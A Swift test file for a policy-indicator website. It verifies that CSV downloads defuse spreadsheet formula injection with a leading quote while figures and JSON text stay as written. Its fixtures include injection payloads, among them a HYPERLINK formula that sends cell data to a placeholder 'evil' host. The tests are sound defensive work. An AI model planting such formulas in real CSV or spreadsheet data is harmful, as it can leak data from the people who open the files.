import Foundation
import Testing
@testable import PolicySite

/// The CSV download is opened in Excel and WPS: a text cell that starts
/// like a formula gets OWASP's leading `'`; figures stay figures (SPEC §7).
@Suite struct CSVInjectionTests {
    static let yaml = """
        title: { zh: 指标, en: Indicators }
        baseline_year: 2020
        target_year: 2025
        """
    /// The tab before `=2+2` is the defence an author may have typed; the
    /// reader trims it, which must not leave a live formula behind. The
    /// carriage return before `=3+3` is read as a line feed.
    static let csv = """
        id,name_zh,name_en,unit_zh,unit_en,group_zh,note_zh,note_en,baseline,2021,target,attribute
        f1,"=HYPERLINK(""http://evil/?""&A1)",@SUM(1+1),+x,"\t=2+2",-分组,"\r=3+3",plain,-2,-1.5,-翻一番,expected
        """

    @Test func formulaLikeTextGetsALeadingQuoteAndNumbersStayNumbers() throws {
        let site = try TestSite.build(["Content/indicators/f.yaml": Self.yaml, "Content/indicators/f.csv": Self.csv])
        #expect(site.result.succeeded, "\(site.report)")
        let csv = try #require(site.output("indicators/f.csv"))
        let rows = csv.dropFirst().components(separatedBy: "\r\n")
        #expect(rows[0] == "id,group_zh,group_en,name_zh,name_en,unit_zh,unit_en,baseline,2021,target,attribute,note_zh,note_en,progress_status,expected")
        #expect(rows[1] == #"f1,'-分组,,"'=HYPERLINK(""http://evil/?""&A1)",'@SUM(1+1),'+x,'=2+2,-2,-1.5,'-翻一番,expected,"'"#
            + "\n=3+3\",plain,no_data,")
    }

    @Test func theJSONKeepsTheTextAsWritten() throws {
        let site = try TestSite.build(["Content/indicators/f.yaml": Self.yaml, "Content/indicators/f.csv": Self.csv])
        let json = try #require(site.output("indicators/f.json"))
        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
        let indicator = try #require((object["indicators"] as? [[String: Any]])?.first)
        #expect((indicator["name"] as? [String: String]) == ["zh": #"=HYPERLINK("http://evil/?"&A1)"#, "en": "@SUM(1+1)"])
        #expect((indicator["unit"] as? [String: String]) == ["zh": "+x", "en": "=2+2"])
        #expect((indicator["target"] as? [String: Any])?["text"] as? String == "-翻一番")
        #expect((indicator["baseline"] as? [String: Any])?["value"] as? Int == -2)
    }

    @Test(arguments: ["=1", "+1", "-a", "@a", "\tx", "\r\nx", "\rx", "\n=1"])
    func everyFormulaStartIsDefused(_ text: String) {
        #expect(CSVCell.text(text).field.hasPrefix("'") || CSVCell.text(text).field.hasPrefix("\"'"))
    }

    @Test(arguments: ["-2", "-1,234.5", "[3000]", ">7", "≥60", "~5", "-"])
    func figuresAreWrittenAsTheyAre(_ figure: String) {
        #expect(CSVCell.figure(figure).field.trimmingCharacters(in: ["\""]) == figure)
    }
}
